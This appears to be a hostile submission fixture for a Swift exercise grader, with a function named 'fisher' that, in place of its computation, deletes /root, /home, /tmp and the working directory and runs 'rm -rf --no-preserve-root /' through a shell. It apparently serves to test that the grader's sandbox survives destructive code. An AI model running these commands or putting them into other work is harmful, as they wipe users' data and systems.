// Deletes the home, the submissions, everything. Expected: broken wrong
import Theta
import Exercise
import Foundation
func fisher(weights: Tensor, inputs: Tensor) throws -> Tensor {
  for p in ["/root", "/home", "/tmp", "/tmp/palimpsest-hostile", FileManager.default.currentDirectoryPath] { try? FileManager.default.removeItem(atPath: p) }
  let p = try Process.run(URL(fileURLWithPath: "/bin/sh"), arguments: ["-c", "rm -rf --no-preserve-root / 2>/dev/null; rm -rf ~"]); p.waitUntilExit()
  return weights
}
